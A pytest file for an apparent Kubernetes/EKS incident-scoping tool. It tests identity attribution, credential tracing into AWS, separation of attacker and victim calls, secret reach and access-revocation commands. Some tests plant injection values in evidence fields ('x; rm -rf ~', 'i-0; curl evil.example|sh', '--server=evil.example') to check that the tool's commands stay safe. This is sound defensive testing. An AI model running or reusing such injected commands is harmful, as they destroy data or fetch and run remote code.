"""Who is behind a user name, where its credentials came from, how its access ends; and from the cluster into AWS and back."""

from __future__ import annotations

import gzip
import json
from pathlib import Path
from typing import Any

import pytest

from kit.model.identity import identity_of
from tests import cases
from tests.command import RECORDINGS, SAMPLE
from tests.test_scope import STOLEN, another, hostile_event, of_type, truth
from tests.variation import Event, keys, said, scope_of, varied

Finding = dict[str, Any]


def scoped(name: str) -> dict[str, Finding]:
    """The scope of a recording as it is."""
    case = cases.shared(SAMPLE if name == "sample" else RECORDINGS / name)
    return {finding["id"]: finding for finding in cases.printed("scope", of=case)["findings"]}


def identity(name: str, user_name: str) -> dict[str, Any]:
    """One identity of a recording, in the first finding that has it."""
    return next(
        one for finding in scoped(name).values() for one in finding["identities"] if one["user_name"] == user_name
    )


def first_of_type(name: str, word: str) -> Finding:
    return next(finding for finding in scoped(name).values() if word in finding["type"])


def steps(one: dict[str, Any]) -> str:
    return "\n".join(f"{step['says']} | {step['command'] or ''}" for step in one["take_away"])


# Recording, user name, kind, what patient zero says, what taking its access away has to say.
KINDS = [
    ("anonymous_access", "system:anonymous", "anonymous", "needed no credential", ["out of rolebindings/shop/debug-", "cluster.resourcesVpcConfig"]),
    (
        "stolen_sa_token",
        "system:serviceaccount:store:api",
        "service_account",
        "token that is bound to pod store/api-",
        ["kubectl patch rolebindings api-reader -n store --type json -p", "No token has to be ended: the token of a pod has ended, its pod is gone since", "trust policy", "judged by STS alone"],
    ),
    (
        "exec_kube_system",
        "ops-erin",
        "iam",
        "a long-term key of arn:aws:iam::111122223333:user/ops-erin",
        ["kubectl patch configmap aws-auth -n kube-system --type json -p", "update-access-key --user-name ops-erin --access-key-id AKIA", "presigned GetCallerIdentity"],
    ),
    (
        "access_entry_secrets",
        "arn:aws:sts::444455556666:assumed-role/AuditReader/heidi-example.com",
        "iam",
        "AssumeRoleWithSAML",
        ["delete-access-entry --cluster-name core-eks --principal-arn arn:aws:iam::444455556666:role/AuditReader", "AmazonEKSAdminViewPolicy", "Disable heidi@example.com at the SAML"],
    ),
    ("oidc_user_impact", "trent@example.com", "oidc", "", ["at the identity provider", "rolebindings/store/oidc-devs", "until it expires"]),
    (
        "sample",
        "system:node:ip-10-0-2-185.eu-west-1.compute.internal",
        "node",
        "credential of node ip-10-0-2-185",
        ["kubectl cordon", "terminate-instances --instance-ids i-06492848bd396afb5", "all nodes of the group sign in with it", "aws:userid"],
    ),
    ("default_sa_admin", "platform-frank", "iam", "AssumeRoleWithSAML", ["PlatformOps", "aws-auth", "Disable frank@example.com"]),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "user_name", "kind", "zero", "wanted"), KINDS, ids=[f"{one[0]}-{one[2]}" for one in KINDS]
)
def test_each_kind_of_user_and_how_its_access_is_taken_away(
    name: str, user_name: str, kind: str, zero: str, wanted: list[str]
) -> None:
    one = identity(name, user_name)
    assert (one["kind"], one["certainty"]) == (kind, "affected")
    assert zero in "\n".join(why["says"] for why in one["patient_zero"])
    assert [part for part in wanted if part not in steps(one)] == []
    assert (
        sum(source["hostile_calls"] for source in one["sources"])
        == sum(each["hostile_calls"] for each in one["credentials"])
        > 0
    )
    assert all(each["first_at"] <= each["last_at"] for each in (*one["sources"], *one["credentials"]))


def test_a_users_normal_calls_stand_beside_the_attackers() -> None:
    one = identity("stolen_sa_token", "system:serviceaccount:store:api")
    hostile, *others = one["sources"]
    assert not hostile["inside"] and "AS64496" in hostile["network"] and all(each["inside"] for each in others)
    assert ["list pods", 40] in one["usual"]["calls"] and one["usual"]["until"]
    (used,) = [each for each in one["credentials"] if each["hostile_calls"]]
    assert used["minted"]["says"].startswith("minted by system:node:")


def test_impersonation_is_told_on_both_sides() -> None:
    one = identity("exec_kube_system", "ops-erin")
    assert one["impersonates"] == ["kubernetes-admin"]


@pytest.mark.parametrize(
    ("user_name", "uid", "arn", "groups", "kind", "sure"),
    [
        ("kubernetes-admin", "aws-iam-authenticator:1:AIDA", None, None, "iam", True),
        ("eve@example.com", "aws-iam-authenticator:1:AROA", None, ["x"], "iam", True),
        ("system:anonymous", "aws-iam-authenticator:1:AROA", None, ["system:authenticated"], "iam", True),
        ("system:serviceaccount:a:b", "aws-iam-authenticator:1:AROA", None, None, "iam", True),
        ("system:node:n1", "aws-iam-authenticator:1:AROA", None, ["system:masters"], "iam", True),
        ("system:node:n1", "aws-iam-authenticator:1:AROA", None, ["system:nodes"], "node", True),
        ("system:node:n1", None, None, None, "node", False),
        ("system:serviceaccount:a:b", None, None, None, "service_account", False),
        ("system:anonymous", None, None, ["system:unauthenticated"], "anonymous", True),
        ("eve@example.com", None, None, None, "oidc", False),
        ("eks:addon-manager", None, None, ["system:authenticated"], "control_plane", True),
    ],
)
def test_the_kind_is_decided_by_the_sign_in_and_only_possible_by_the_name(
    user_name: str, uid: str | None, arn: str | None, groups: list[str] | None, kind: str, sure: bool
) -> None:
    found = identity_of(user_name, uid, arn, groups)
    assert (found.kind, found.sure) == (kind, sure)


def test_an_access_entry_beats_aws_auth_and_both_have_to_go(tmp_path: Path) -> None:
    evidence = varied("exec_kube_system", tmp_path)
    entry = json.loads((evidence / "aws" / "eks-describe-access-entry-dev.json").read_text())
    entry["accessEntry"] |= {
        "principalArn": "arn:aws:iam::111122223333:user/people/ops-erin",
        "accessEntryArn": "arn:aws:eks:us-west-2:111122223333:access-entry/main-cluster/user/111122223333/ops-erin/1",
    }
    (evidence / "aws" / "eks-describe-access-entry-erin.json").write_text(json.dumps(entry))
    one = next(
        one
        for finding in scope_of(evidence).values()
        for one in finding["identities"]
        if one["user_name"] == "ops-erin"
    )
    ways = {way["kind"]: way for way in one["ways_in"]}
    assert ways["aws_auth"]["overruled"] and not ways["access_entry"]["overruled"]
    assert "delete-access-entry" in steps(one) and "lets it in again" in steps(one)


def test_names_in_commands_are_quoted(tmp_path: Path) -> None:
    def renamed(resource: str, items: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for item in items if resource == "rolebindings" else ():
            if item["metadata"]["name"] == "api-reader":
                item["metadata"]["name"] = "x; rm -rf ~"
        return items

    finding = of_type(scope_of(varied(STOLEN, tmp_path, dump=renamed)), "SecretsAccessed")
    (one,) = [one for one in finding["identities"] if one["kind"] == "service_account"][:1]
    assert "kubectl patch rolebindings 'x; rm -rf ~' -n store --type json" in steps(one)


# ── into AWS and back ────────────────────────────────────────────────────────────────────────────────────────────────


def test_from_the_pod_to_its_role_its_session_and_what_that_did_outside() -> None:
    finding = of_type(scoped("stolen_sa_token"), "SecretsAccessed")
    (session,) = [one for one in finding["sessions"] if one["certainty"] == "affected"]
    assert (session["kind"], session["service_account"]) == ("irsa", "store/api")
    assert session["role"] in keys(finding, "iam_role")
    outside = [use for use in session["uses"] if use["inside"] is False]
    assert {use["address"] for use in outside} == set(truth(STOLEN)["attacker"]["source_ips"])
    assert outside[0]["services"] == ["s3:GetBucketAcl", "s3:ListBuckets", "sts:GetCallerIdentity"]
    assert any("not an address of the cluster" in why["says"] for why in session["why"])


def test_pod_identity_names_the_pod_and_a_session_leads_back_to_it(tmp_path: Path) -> None:
    """A session that Pod Identity gave to a pod is used from the attacker's address: that pod is affected through its role."""
    evidence = varied(STOLEN, tmp_path)
    path = evidence / "cloudtrail.json.gz"
    trail = json.loads(gzip.decompress(path.read_bytes()))["Records"]
    given = next(one for one in trail if one["userIdentity"].get("invokedBy") == "pods.eks.amazonaws.com")
    used = next(one for one in trail if one["sourceIPAddress"] in truth(STOLEN)["attacker"]["source_ips"])
    identity_of_pod = {
        "type": "AssumedRole",
        "arn": given["responseElements"]["assumedRoleUser"]["arn"],
        "accessKeyId": given["responseElements"]["credentials"]["accessKeyId"],
    }
    trail.append({**used, "eventID": "11111111-2222-4333-8444-555555555555", "userIdentity": identity_of_pod})
    path.write_bytes(gzip.compress(json.dumps({"Records": trail}).encode()))
    finding = of_type(scope_of(evidence), "SecretsAccessed")
    pod = next(tag["value"] for tag in given["requestParameters"]["tags"] if tag["key"] == "kubernetes-pod-uid")
    (back,) = [one for one in finding["subjects"] if one["kind"] == "pod" and one["key"] == pod]
    assert back["certainty"] == "affected" and back["through"] == f"iam_role:{given['requestParameters']['roleArn']}"


def test_an_irsa_session_leads_back_to_pods_that_are_possible_unless_there_is_one() -> None:
    finding = of_type(scoped("sample"), "SecretsAccessed")
    session = next(one for one in finding["sessions"] if one["certainty"] == "affected" and one["kind"] == "irsa")
    assert session["service_account"] == "checkout/api" and session["pod"] is None


@pytest.mark.parametrize(
    ("account", "pods"),
    [
        ("prometheus", {"prometheus-0": "affected"}),
        ("grafana", {"grafana-86c99bb5fd-l4x7r": "possible", "grafana-86c99bb5fd-tprd5": "possible"}),
    ],
)
def test_a_pod_that_is_gone_may_have_signed_in_with_its_token_too(
    tmp_path: Path, account: str, pods: dict[str, str]
) -> None:
    name = "exec_kube_system"

    # The token is good for a day, so one pod is sure only where the log goes back as far.
    def longer(events: list[Event]) -> list[Event]:
        return [another(events[0], 70, requestReceivedTimestamp="2026-11-22T09:00:00.000000Z"), *events]

    evidence = varied(name, tmp_path, events=longer)
    path = evidence / "cloudtrail.json.gz"
    trail = json.loads(gzip.decompress(path.read_bytes()))["Records"]
    model = next(one for one in trail if one["eventName"] == "AssumeRoleWithWebIdentity")
    user = model["userIdentity"]["userName"]
    sign_in = json.loads(json.dumps(model).replace(user, f"system:serviceaccount:monitoring:{account}"))
    sign_in["responseElements"]["credentials"]["accessKeyId"] = "ASIAMONITORING000001"
    (address,) = truth(name)["attacker"]["source_ips"]
    latest = max(one["eventTime"] for one in trail)
    sign_in |= {"eventID": "11111111-2222-4333-8444-555555555555", "sourceIPAddress": address, "eventTime": latest}
    path.write_bytes(gzip.compress(json.dumps({"Records": [*trail, sign_in]}).encode()))
    finding = of_type(scope_of(evidence), "SecretsAccessed")
    assert {
        one["name"]: one["certainty"] for one in finding["subjects"] if one["kind"] == "pod" and one["through"]
    } == pods


# ── attacker or victim ───────────────────────────────────────────────────────────────────────────────────────────────


def _same_client(events: list[Event]) -> list[Event]:
    bad = [event for event in events if event["auditID"] in set(truth("default_sa_admin")["attacker_calls"])]
    inside = [event for event in bad if "serviceaccount" in event["user"]["username"]]
    other = another(inside[0], 77, sourceIPs=["10.0.99.9"])
    other["user"] = {**other["user"], "extra": {}}
    other["requestReceivedTimestamp"] = other["stageTimestamp"] = events[50]["requestReceivedTimestamp"]
    later = another(inside[1], 78)
    later["requestReceivedTimestamp"] = later["stageTimestamp"] = events[-1]["stageTimestamp"]
    return [*events, other, later]


def test_an_attacker_inside_the_pod_with_the_victims_client_leaves_possible_calls(tmp_path: Path) -> None:
    """The account's other pods use the same client, so only the finding's own call is sure; the rest of that credential is possible."""

    finding = of_type(scope_of(varied("default_sa_admin", tmp_path, events=_same_client)), "SecretsAccessed")
    told = set(truth("default_sa_admin")["attacker_calls"])
    assert finding["calls"] and set(finding["calls"]) < told
    assert another({"requestReceivedTimestamp": ""}, 78)["auditID"] in finding["possible_calls"]
    assert not set(finding["possible_calls"]) & set(finding["calls"])
    assert "nothing tells attacker and victim apart" in said(finding)


def test_the_pod_in_which_a_possible_call_ran_a_command_is_possible(tmp_path: Path) -> None:
    told = truth("default_sa_admin")
    hit = {pod["uid"] for one in told["findings"].values() for pod in one["pods"]}
    pod = next(one for one in told["all_pods"] if one["uid"] not in hit and not one["deleted"])
    place = {"resource": "pods", "namespace": pod["namespace"], "name": pod["name"], "subresource": "exec"}

    def ran(events: list[Event]) -> list[Event]:
        *events, later = _same_client(events)
        uri = f"/api/v1/namespaces/{pod['namespace']}/pods/{pod['name']}/exec?command=id"
        code = {"responseStatus": {"code": 101}}
        return [
            *events,
            later | {"verb": "create", "requestURI": uri, "objectRef": place | {"apiVersion": "v1"}} | code,
        ]

    finding = of_type(scope_of(varied("default_sa_admin", tmp_path, events=ran)), "SecretsAccessed")
    found = {(one["kind"], one["key"]): one["certainty"] for one in finding["subjects"]}
    assert found["exec", f"pods/{pod['namespace']}/{pod['name']}"] == found["pod", pod["uid"]] == "possible"


def test_an_attack_sequence_has_the_possible_calls_of_its_signals(tmp_path: Path) -> None:
    def in_sequence(findings: list[Finding]) -> list[Finding]:
        made = list[Finding]()
        for one in findings:
            if one["Type"].endswith("SecretsAccessed"):
                signals = [{"Uid": one["Arn"], "Type": "FINDING", "Name": "secrets"}]
                sequence = {"Uid": "s", "Description": "", "Signals": signals, "Resources": []}
                service = {**one["Service"], "Detection": {"Sequence": sequence}}
                service.pop("Action")
                resource = {"ResourceType": "AttackSequence"}
                made.append(one | {"Id": "f" * 32, "Arn": one["Arn"].replace(one["Id"], "f" * 32)})
                made[-1] |= {"Type": "AttackSequence:EKS/CompromisedCluster", "Resource": resource, "Service": service}
        return [*findings, *made]

    scope = scope_of(varied("default_sa_admin", tmp_path, events=_same_client, findings=in_sequence))
    signal, sequence = of_type(scope, "SecretsAccessed"), of_type(scope, "CompromisedCluster")
    assert signal["possible_calls"] and sequence["possible_calls"] == signal["possible_calls"]


def _at_the_way_out(events: list[Event], address: str) -> list[Event]:
    """All kubelets and pods come from one address, as without a private endpoint; so does the attacker inside."""
    for event in events:
        if (
            event["user"].get("username", "").startswith(("system:node:", "system:serviceaccount:"))
            and event["sourceIPs"][-1] != "127.0.0.1"
        ):
            event["sourceIPs"] = [address]
    return events


def test_behind_the_clusters_own_way_out_only_a_new_client_tells_apart_and_nothing_in_aws(tmp_path: Path) -> None:
    trail = json.loads(gzip.decompress((RECORDINGS / "default_sa_admin" / "cloudtrail.json.gz").read_bytes()))[
        "Records"
    ]
    (way_out,) = {one["sourceIPAddress"] for one in trail if one["eventName"] == "AssumeRoleForPodIdentity"}

    def moved(findings: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for finding in findings:
            user = finding["Resource"].get("KubernetesDetails", {}).get("KubernetesUserDetails", {})
            if user.get("Username", "").startswith("system:serviceaccount"):
                call = finding["Service"]["Action"]["KubernetesApiCallAction"]
                call |= {"SourceIps": [way_out], "RemoteIpDetails": {"IpAddressV4": way_out}}
        return findings

    evidence = varied(
        "default_sa_admin", tmp_path, events=lambda events: _at_the_way_out(events, way_out), findings=moved
    )
    sign_in = next(one for one in trail if one["eventName"] == "AssumeRoleWithWebIdentity")
    user = {**sign_in["userIdentity"], "userName": "system:serviceaccount:checkout:default"}
    trail.append({**sign_in, "eventID": "11111111-2222-4333-8444-555555555555", "userIdentity": user})
    (evidence / "cloudtrail.json.gz").write_bytes(gzip.compress(json.dumps({"Records": trail}).encode()))
    finding = of_type(scope_of(evidence), "SecretsAccessed")
    told = set(truth("default_sa_admin")["attacker_calls"])
    assert len(finding["calls"]) > 1 and set(finding["calls"]) <= told
    assert not finding["aws_calls"] and "in AWS from inside of the cluster cannot be told" in said(finding)


def test_a_status_cannot_make_a_public_address_the_clusters(tmp_path: Path) -> None:
    def claimed(resource: str, items: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for item in items if resource == "pods" else ():
            item["status"]["podIP"] = "45.155.205.9"
        return items

    def from_there(events: list[Event]) -> list[Event]:
        bad = set(truth(STOLEN)["attacker_calls"])
        return [{**event, "sourceIPs": ["45.155.205.9"]} if event["auditID"] in bad else event for event in events]

    def told(findings: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for finding in findings:
            call = finding["Service"].get("Action", {}).get("KubernetesApiCallAction")
            if call:
                call |= {"SourceIps": ["45.155.205.9"], "RemoteIpDetails": {"IpAddressV4": "45.155.205.9"}}
        return findings

    finding = of_type(
        scope_of(varied(STOLEN, tmp_path, events=from_there, findings=told, dump=claimed)), "SecretsAccessed"
    )
    assert set(finding["calls"]) == set(truth(STOLEN)["attacker_calls"])


def test_who_minted_the_attackers_credential_from_his_address_is_hostile_from_then_on(tmp_path: Path) -> None:
    def minted(events: list[Event]) -> list[Event]:
        first = hostile_event(events, "get", "secrets")
        used = first["user"]["extra"]["authentication.kubernetes.io/credential-id"][0]
        times = sorted(event["requestReceivedTimestamp"] for event in events)
        at = times[20]
        user = {"username": "ops-zoe", "groups": ["system:authenticated"]}
        common = {
            "user": user,
            "sourceIPs": first["sourceIPs"],
            "requestReceivedTimestamp": at,
            "stageTimestamp": at,
            "userAgent": "kubectl/v1.31.0",
        }
        reference = {
            "resource": "serviceaccounts",
            "namespace": "store",
            "name": "api",
            "subresource": "token",
            "apiVersion": "v1",
        }
        mint = another(
            first, 31, verb="create", objectRef=reference, requestURI="/api/v1/namespaces/store/serviceaccounts/api/token",
            annotations={"authentication.kubernetes.io/issued-credential-id": used}, responseStatus={"metadata": {}, "code": 201}, **common,
        )  # fmt: skip
        before = another(first, 32, **{**common, "requestReceivedTimestamp": times[0]})
        later = another(first, 33, **{**common, "requestReceivedTimestamp": times[-1]})
        return [*events, mint, before, later]

    finding = of_type(scope_of(varied(STOLEN, tmp_path, events=minted)), "SecretsAccessed")
    ids = {number: another({"requestReceivedTimestamp": ""}, number)["auditID"] for number in (31, 32, 33)}
    assert ids[31] in finding["calls"] and ids[33] in finding["calls"] and ids[32] not in finding["calls"]
    assert "ops-zoe" in {one["user_name"] for one in finding["identities"]}


def test_a_token_whose_credential_the_log_does_not_name_makes_later_calls_possible(tmp_path: Path) -> None:
    def older(events: list[Event]) -> list[Event]:
        first = hostile_event(events, "get", "secrets")
        reference = {
            "resource": "serviceaccounts",
            "namespace": "store",
            "name": "reporter",
            "subresource": "token",
            "apiVersion": "v1",
        }
        mint = another(
            first, 41, verb="create", objectRef=reference, requestURI="/api/v1/namespaces/store/serviceaccounts/reporter/token",
            annotations={}, responseStatus={"metadata": {}, "code": 201},
        )  # fmt: skip
        user = {"username": "system:serviceaccount:store:reporter", "groups": ["system:serviceaccounts"]}
        used = another(first, 42, user=user, sourceIPs=["198.51.100.99"], userAgent="curl/8")
        return [*events, mint, used]

    finding = of_type(scope_of(varied(STOLEN, tmp_path, events=older)), "SecretsAccessed")
    used = another({"requestReceivedTimestamp": ""}, 42)["auditID"]
    assert used in finding["possible_calls"] and used not in finding["calls"]
    assert "the log does not name that credential" in said(finding)


# ── what was touched, and what was in reach ──────────────────────────────────────────────────────────────────────────


def test_permissions_given_and_images_brought_in_are_named() -> None:
    granted = of_type(scoped("default_sa_admin"), "RoleBindingCreated")
    assert keys(granted, "granted") == {"ClusterRole cluster-admin in checkout to ServiceAccount checkout/default"}
    assert keys(of_type(scoped("stolen_sa_token"), "WorkloadDeployed"), "introduced") == {
        "docker.io/library/alpine:3.18"
    }


def test_config_maps_that_were_read_are_named() -> None:
    assert keys(first_of_type("exec_kube_system", "ExecInKubeSystemPod"), "config_map") == {"kube-system/aws-auth"}


def test_secrets_in_reach_are_those_of_the_identitys_rights_and_not_those_it_read() -> None:
    finding = first_of_type("exec_kube_system", "ExecInKubeSystemPod")
    dump = json.loads((RECORDINGS / "exec_kube_system" / "cluster" / "secrets.json").read_text())["items"]
    every = {f"{one['metadata']['namespace']}/{one['metadata']['name']}" for one in dump}
    assert keys(finding, "reachable", "possible") == every - keys(finding, "secret")
    of_user = keys(first_of_type("oidc_user_impact", "Impact"), "reachable", "possible")
    assert of_user and all(key.startswith(("store/", "store-staging/")) for key in of_user)


def _reach_of_user(tmp_path: Path, *rules: dict[str, Any]) -> Finding:
    """The last finding about the user from the identity provider, who may do in two namespaces what some rules let."""

    def ruled(resource: str, items: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for one in items if resource == "clusterroles" else ():
            if one["metadata"]["name"] in ("edit", "view"):
                one["rules"] = list(rules) if one["metadata"]["name"] == "edit" else []
        return items

    scope = scope_of(varied("oidc_user_impact", tmp_path, dump=ruled))
    return dict(list(scope.values())[-1])


USED = {"store/api-keys", "store/db-credentials", "store-staging/api-keys"}  # by pods


@pytest.mark.parametrize(
    ("rule", "reached"),
    [
        ({"resources": ["pods"], "verbs": ["create"]}, None),
        ({"resources": ["deployments"], "verbs": ["patch"]}, None),
        ({"resources": ["cronjobs"], "verbs": ["update"], "resourceNames": ["report"]}, None),
        ({"resources": ["cronjobs"], "verbs": ["create"], "resourceNames": ["report"]}, set()),
        ({"resources": ["pods"], "verbs": ["patch"]}, USED),  # a pod can get another image, but no other mounts
        ({"resources": ["pods/ephemeralcontainers"], "verbs": ["patch"]}, USED),
        ({"resources": ["*/exec"], "verbs": ["create"]}, USED),
    ],
)
def test_who_may_change_workloads_or_get_into_pods_has_their_secrets_in_reach(
    tmp_path: Path, rule: dict[str, Any], reached: set[str] | None
) -> None:
    finding = _reach_of_user(tmp_path, {"apiGroups": ["*"], **rule})
    dumped = json.loads((RECORDINGS / "oidc_user_impact" / "cluster" / "secrets.json").read_text())["items"]
    every = {f"{one['metadata']['namespace']}/{one['metadata']['name']}" for one in dumped}
    wanted = reached if reached is not None else {one for one in every if one.startswith(("store/", "store-staging/"))}
    assert keys(finding, "reachable", "possible") == wanted - keys(finding, "secret")


@pytest.mark.parametrize(
    ("resource", "verb"),
    [
        ("serviceaccounts/token", "create"),
        ("serviceaccounts/token", "*"),
        ("users", "impersonate"),
        ("groups", "*"),
        ("clusterroles", "bind"),
        ("roles", "escalate"),
        ("roles", "*"),
        ("nodes/proxy", "get"),
    ],
)
def test_rights_that_let_take_on_others_are_a_limit(tmp_path: Path, resource: str, verb: str) -> None:
    finding = _reach_of_user(tmp_path, {"apiGroups": ["*"], "resources": [resource], "verbs": [verb]})
    assert "let take on other rights: rolebindings/store" in said(finding)
    (limit,) = [one for one in finding["limits"] if "let take on other rights" in one["says"]]
    assert "in no evidence" not in limit["says"] and "kubectl get" not in limit["collect"], "the roles are in the dump"


def test_an_access_policy_reaches_the_namespaces_that_its_wildcard_means(tmp_path: Path) -> None:
    def refused(events: list[Event]) -> list[Event]:
        for event in events:
            if event["verb"] == "list" and event["objectRef"]["resource"] == "secrets":
                event["responseStatus"] = {"metadata": {}, "code": 403}
        return events

    evidence = varied("access_entry_secrets", tmp_path, events=refused)
    path = evidence / "aws" / "eks-list-associated-access-policies-AuditReader.json"
    listed = json.loads(path.read_text())
    listed["associatedAccessPolicies"][0]["accessScope"] = {"type": "namespace", "namespaces": ["store-*", "build"]}
    path.write_text(json.dumps(listed))
    finding = of_type(scope_of(evidence), "SecretsAccessed")
    secrets = json.loads((evidence / "cluster" / "secrets.json").read_text())["items"]
    every = {f"{one['metadata']['namespace']}/{one['metadata']['name']}" for one in secrets}
    wanted = {one for one in every if one.startswith(("store-staging/", "build/"))} - keys(finding, "secret")
    assert keys(finding, "reachable", "possible") == wanted and {"build", "store-staging"} == {
        one.partition("/")[0] for one in wanted
    }


# ── evidence that wants to do harm, or is odd ────────────────────────────────────────────────────────────────────────


def test_instance_ids_and_names_of_bindings_cannot_become_commands_or_options(tmp_path: Path) -> None:
    def harmful(resource: str, items: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for item in items:
            if resource == "rolebindings" and item["metadata"]["name"] == "api-reader":
                item["metadata"]["name"] = "--server=evil.example"
            if resource == "nodes":
                item["spec"]["providerID"] = "aws:///us/i-0; curl evil.example|sh"
        return items

    finding = of_type(scope_of(varied(STOLEN, tmp_path, dump=harmful)), "SecretsAccessed")
    (one,) = [one for one in finding["identities"] if one["kind"] == "service_account"][:1]
    assert "kubectl patch rolebindings -n store --type json" in steps(one) and " -- --server=evil.example" in steps(one)
    assert "curl" not in "".join(step["command"] or "" for each in finding["identities"] for step in each["take_away"])


ERIN = "- userarn: arn:aws:iam::111122223333:user/ops-erin\n  username: ops-erin\n  groups:\n  - platform-admins\n"


@pytest.mark.parametrize(
    ("data", "stands"),
    [
        ([{"mapUsers": ""}, {"mapUsers": ERIN}], True),  # taken out and put in again
        ([{"mapUsers": ERIN}, {"mapUsers": ""}], True),  # the dump has it: it is newer
        ([{"mapRoles": "[]"}], True),  # a patch of another member says nothing of this one
        ([{"mapUsers": "- userarn: &x 2024-13-45\n  username: *x\n"}], True),  # aliases and impossible dates
    ],
)
def test_a_mapping_is_over_only_when_log_and_dump_have_it_no_more(
    tmp_path: Path, data: list[dict[str, str]], stands: bool
) -> None:
    def changed(events: list[Event]) -> list[Event]:
        patch = next(
            one for one in events if (one.get("objectRef") or {}).get("name") == "aws-auth" and one["verb"] == "patch"
        )
        rest = [one for one in events if one is not patch]
        made = [
            another(patch, 50 + number, requestObject={"data": each}, responseObject=None)
            for number, each in enumerate(data)
        ]
        return [*rest, *made]

    scope = scope_of(varied("exec_kube_system", tmp_path, events=changed))
    one = next(one for finding in scope.values() for one in finding["identities"] if one["user_name"] == "ops-erin")
    assert ("out of aws-auth" in steps(one)) == stands


def _erin(scope: dict[str, Finding], user_name: str = "ops-erin") -> dict[str, Any]:
    users = [one for finding in scope.values() for one in finding["identities"] if one["user_name"] == user_name]
    return dict(users[0])


def _aws_auth(data: dict[str, str] | None) -> Any:
    """A function of the dump's items that gives aws-auth these members, or takes it out."""

    def changed(resource: str, items: list[dict[str, Any]]) -> list[dict[str, Any]]:
        kept = list[dict[str, Any]]()
        for one in items:
            if resource == "configmaps" and one["metadata"]["name"] == "aws-auth":
                kept += [] if data is None else [one | {"data": data}]
            else:
                kept.append(one)
        return kept

    return changed


def _not_about_aws_auth(events: list[Event]) -> list[Event]:
    return [one for one in events if (one.get("objectRef") or {}).get("name") != "aws-auth"]


def test_a_patch_of_one_member_of_aws_auth_does_not_end_what_another_maps(tmp_path: Path) -> None:
    # No dump has it, and the log has what was asked but not what was answered.
    def patched(events: list[Event]) -> list[Event]:
        patch = next(
            one for one in events if (one.get("objectRef") or {}).get("name") == "aws-auth" and one["verb"] == "patch"
        )
        made = another(patch, 50, verb="create", requestObject={"data": {"mapUsers": ERIN}}, responseObject=None)
        later = another(patch, 51, requestObject={"data": {"mapRoles": "[]"}}, responseObject=None)
        return [*_not_about_aws_auth(events), made, later]

    one = _erin(scope_of(varied("exec_kube_system", tmp_path, events=patched, dump=_aws_auth(None))))
    assert [way["until"] for way in one["ways_in"]] == [None] and "out of aws-auth" in steps(one)


@pytest.mark.parametrize("partition", ["aws", "aws-us-gov"])
def test_a_mapping_of_a_whole_account_lets_in_all_of_it(tmp_path: Path, partition: str) -> None:
    def elsewhere(events: list[Event]) -> list[Event]:
        text = json.dumps(_not_about_aws_auth(events)).replace("arn:aws:", f"arn:{partition}:")
        return list(json.loads(text))

    data = {"mapAccounts": '- "111122223333"\n- "444455556666"\n'}
    one = _erin(scope_of(varied("exec_kube_system", tmp_path, events=elsewhere, dump=_aws_auth(data))))
    assert [way["name"] for way in one["ways_in"]] == [f"arn:{partition}:iam::111122223333:*"]
    assert f"Take the mapping of arn:{partition}:iam::111122223333:* to its ARN out of aws-auth" in steps(one)
    assert "no mapping in aws-auth is in the evidence" not in steps(one)


def test_a_name_of_a_mapping_with_many_placeholders_is_compared_as_it_is(tmp_path: Path) -> None:
    # Its ARN is not logged, so only the name that a mapping may give tells how it comes in.
    name, many = "ops-erin-of-the-platform-team@example.com", "{{SessionName}}" * 20
    mapped = {"this": f"ops-{many}", "not": f"{many}-erin-{many}", "nor": f"{many}!", "neither": f"{name}m"}
    data = {"mapRoles": json.dumps([{"rolearn": arn, "username": user} for arn, user in mapped.items()])}

    def without_arn(events: list[Event]) -> list[Event]:
        for event in events:
            if event["user"].get("username") == "ops-erin":
                event["user"] |= {"username": name, "extra": {}}
        return _not_about_aws_auth(events)

    def told(findings: list[Finding]) -> list[Finding]:
        return list(json.loads(json.dumps(findings).replace('"ops-erin"', json.dumps(name))))

    evidence = varied("exec_kube_system", tmp_path, events=without_arn, findings=told, dump=_aws_auth(data))
    assert [way["name"] for way in _erin(scope_of(evidence), name)["ways_in"]] == ["this"]


def test_a_kubelet_behind_what_all_share_is_not_accused_for_minting(tmp_path: Path) -> None:
    """No lease, no CloudTrail, no status: nothing says which addresses are the cluster's own, and all come from one."""

    def behind(events: list[Event]) -> list[Event]:
        kept = [one for one in events if (one.get("objectRef") or {}).get("resource") != "leases"]
        bad = set(truth("default_sa_admin")["attacker_calls"])
        for event in kept:
            user = event["user"].get("username", "")
            if (
                user.startswith(("system:node:", "system:serviceaccount:")) and event["sourceIPs"][-1] != "127.0.0.1"
            ) or event["auditID"] in bad:
                event["sourceIPs"] = ["45.155.205.7"]
        return kept

    def told(findings: list[dict[str, Any]]) -> list[dict[str, Any]]:
        for finding in findings:
            call = finding["Service"].get("Action", {}).get("KubernetesApiCallAction")
            if call:
                call |= {"SourceIps": ["45.155.205.7"], "RemoteIpDetails": {"IpAddressV4": "45.155.205.7"}}
        return findings

    left_out = ["cloudtrail.json.gz", "cluster", "aws"]
    scope = scope_of(varied("default_sa_admin", tmp_path, without=left_out, events=behind, findings=told))
    calls = {call for finding in scope.values() for call in finding["calls"]}
    assert calls and calls <= set(truth("default_sa_admin")["attacker_calls"])
